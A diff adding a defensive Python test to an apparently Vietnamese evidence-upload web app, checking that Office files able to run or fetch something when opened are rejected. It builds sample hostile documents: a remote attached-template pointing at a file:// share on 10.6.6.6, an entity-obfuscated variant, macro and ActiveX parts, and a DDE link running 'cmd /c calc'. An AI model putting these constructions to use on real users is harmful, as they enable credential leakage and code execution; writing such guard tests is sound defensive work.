@@ -382,3 +382,64 @@ def test_a_trailing_slash_redirect_names_no_host(server):
         head = data.decode("utf-8", "replace").partition("\r\n\r\n")[0]
         location = re.search(r"(?im)^location: (.*)$", head).group(1).strip()
         assert location.startswith("/") and not location.startswith("//") and "evil" not in location, location
+
+
+RELS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'%s</Relationships>')
+DOCX_TYPES = (b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.'
+              b'main+xml"/></Types>')
+
+
+def _office_file(entries: dict[str, bytes], types: bytes = DOCX_TYPES) -> bytes:
+    import io
+    import zipfile
+
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", types)
+        for name, data in entries.items():
+            z.writestr(name, data)
+    return buffer.getvalue()
+
+
+def test_evidence_that_runs_or_fetches_something_when_opened_is_refused(server):
+    """Guard: office.evidence._inert, called by ``_office``. A unit's DOCX whose settings name a template on
+    another server (Word fetches it when the appraiser opens the file: the reader's Windows credentials go along,
+    and the template's macros may come back), one carrying macros under a .docx name, a workbook linking to other
+    files or a DDE server, and one whose relationship hides «External» behind a character reference were all
+    taken as evidence; a hyperlink, which only a click follows, is still taken."""
+    base, engine, data_dir = server
+    rid = _round(engine)
+    a, token = signed_in(base, "donvi.sgddt")
+    template = (b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                b'attachedTemplate" Target="file://10.6.6.6/chia-se/mau.dotm" TargetMode="%s"/>')
+    xlsx_types = DOCX_TYPES.replace(b"wordprocessingml.document", b"spreadsheetml.sheet")
+    cases = {
+        "remote template": _office_file({"word/document.xml": b"<w:document/>",
+                                         "word/_rels/settings.xml.rels": RELS % (template % b"External")}),
+        "entity-hidden": _office_file({"word/document.xml": b"<w:document/>",
+                                       "word/_rels/settings.xml.rels": RELS % (template % b"&#69;xternal")}),
+        "macros": _office_file({"word/document.xml": b"<w:document/>", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64}),
+        "activex": _office_file({"word/document.xml": b"<w:document/>", "word/activeX/activeX1.xml": b"<ax/>"}),
+        "dde link": _office_file({"xl/workbook.xml": b"<workbook/>", "xl/externalLinks/externalLink1.xml":
+                                  b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'},
+                                 xlsx_types),
+        "broken rels": _office_file({"word/document.xml": b"<w:document/>", "_rels/.rels": b"<Relationships"}),
+    }
+    before = _files_count(engine)
+    for what, data in cases.items():
+        r = a.post(f"/tu-danh-gia/{rid}/tai-lieu", data={"csrf": token, "criterion": "1.7.1"},
+                   files={"file": (f"{what}.docx", data, "application/octet-stream")})
+        assert r.status_code == 400, what
+    assert _files_count(engine) == before
+    link = (b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            b'hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"/>')
+    good = _office_file({"word/document.xml": b"<w:document/>", "word/_rels/document.xml.rels": RELS % link})
+    r = a.post(f"/tu-danh-gia/{rid}/tai-lieu", data={"csrf": token, "criterion": "1.7.1"},
+               files={"file": ("co-lien-ket.docx", good, "application/octet-stream")})
+    assert r.status_code == 303 and _files_count(engine) == before + 1
+
+
+def _files_count(engine) -> int:
+    with engine.connect() as conn:
+        return conn.execute(select(func.count(models.EvidenceFile.id))).scalar()
